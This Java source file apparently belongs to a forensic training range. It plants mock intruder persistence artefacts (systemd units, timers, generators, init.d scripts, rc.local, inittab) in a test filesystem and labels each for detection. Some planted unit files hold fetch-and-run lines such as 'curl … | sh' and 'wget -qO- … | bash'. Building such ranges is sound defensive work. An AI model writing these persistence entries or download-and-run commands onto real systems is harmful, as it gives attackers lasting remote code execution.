package davy.range.plant;

/// What intruders leave where services are started: systemd, init scripts, rc.local, inittab.
final class ServiceArtefacts {
    private static final String WANTS = "/etc/systemd/system/multi-user.target.wants/";

    private ServiceArtefacts() {}

    static void plant(Ground ground) {
        units(ground);
        userUnit(ground);
        knownUnit(ground);
        timers(ground);
        generators(ground);
        oldStyle(ground);
    }

    private static void units(Ground ground) {
        String program = "/var/tmp/" + ground.word() + "/" + ground.word();
        ground.program(program, ground.inert.program());
        String name = ground.word() + ".service";
        String unit = ground.write("/etc/systemd/system/" + name, service(program));
        ground.link(WANTS + name, unit);
        ground.artefact("unit starts a program below /var/tmp", "systemd-unit", "high", unit);

        String addition =
                ground.write(
                        "/etc/systemd/system/cron.service.d/" + ground.word() + ".conf",
                        "[Service]\nExecStartPost=/bin/sh -c 'curl -s "
                                + ground.dice.url()
                                + " | sh'\n");
        ground.artefact(
                "addition to a packaged unit fetches and runs", "systemd-unit", "high", addition);
    }

    private static void userUnit(Ground ground) {
        String person = ground.person();
        String home = "/home/" + person;
        String program = home + "/.cache/." + ground.word() + "/" + ground.word();
        ground.owner(ground.program(program, ground.inert.program()), person);
        String unit =
                ground.write(
                        home + "/.config/systemd/user/" + ground.word() + ".service",
                        service(program));
        ground.owner(unit, person);
        ground.artefact("unit of a person, hidden program", "systemd-unit", "high", unit);
    }

    private static void knownUnit(Ground ground) {
        String program = "/usr/bin/" + ground.word();
        ground.program(program, ground.inert.program());
        String unit =
                ground.write("/usr/lib/systemd/system/pwnriglhttps.service", service(program));
        ground.artefact("unit with the name of a known miner", "systemd-unit", "high", unit);
    }

    private static void timers(Ground ground) {
        String name = ground.word();
        ground.write(
                "/etc/systemd/system/" + name + ".service",
                "[Service]\nType=oneshot\nExecStart=/bin/bash -c 'wget -qO- "
                        + ground.dice.url()
                        + " | bash'\n");
        String timer =
                ground.write(
                        "/etc/systemd/system/" + name + ".timer",
                        """
                        [Timer]
                        OnBootSec=%d
                        OnUnitActiveSec=%dmin
                        [Install]
                        WantedBy=timers.target
                        """
                                .formatted(
                                        ground.dice.between(20, 90), ground.dice.between(2, 30)));
        ground.link("/etc/systemd/system/timers.target.wants/" + name + ".timer", timer);
        ground.artefact("timer of a unit that fetches", "systemd-timer", "high", timer);
    }

    private static void generators(Ground ground) {
        String generator =
                ground.script(
                        "/usr/lib/systemd/system-generators/" + ground.word(),
                        "#!/bin/sh\ncp /var/tmp/."
                                + ground.word()
                                + " /run/systemd/generator/x.service\n");
        ground.artefact(
                "generator that no package brought", "systemd-generator", "high", generator);
    }

    private static void oldStyle(Ground ground) {
        String program = ground.program("/usr/sbin/" + ground.word(), ground.inert.program());
        String name = ground.word();
        String script =
                ground.script(
                        "/etc/init.d/" + name,
                        "#!/bin/sh\n# chkconfig: 12345 90 90\n### BEGIN INIT INFO\n# Provides: "
                                + name
                                + "\n### END INIT INFO\ncase $1 in\nstart) "
                                + program
                                + " ;;\nesac\n");
        for (int level = 2; level <= 5; level++) {
            ground.link("/etc/rc" + level + ".d/S90" + name, "../init.d/" + name);
        }
        ground.artefact("init script of no package", "init-script", "high", script);

        String local =
                ground.script(
                        "/etc/rc.local",
                        "#!/bin/sh -e\nnohup /var/tmp/."
                                + ground.word()
                                + "/start >/dev/null 2>&1 &\nexit 0\n");
        ground.artefact("rc.local starts a hidden program", "rc-local", "high", local);

        String hidden = "/usr/lib/." + ground.word() + "/" + ground.word();
        ground.program(hidden, ground.inert.program());
        String table =
                ground.write(
                        "/etc/inittab",
                        "id:3:initdefault:\nx%d:2345:respawn:%s\n"
                                .formatted(ground.dice.between(1, 9), hidden));
        ground.artefact("inittab respawns", "rc-local", "high", table);
    }

    private static String service(String program) {
        return "[Unit]\nDescription=Network helper\n[Service]\nExecStart="
                + program
                + " -B\nRestart=always\n[Install]\nWantedBy=multi-user.target\n";
    }
}
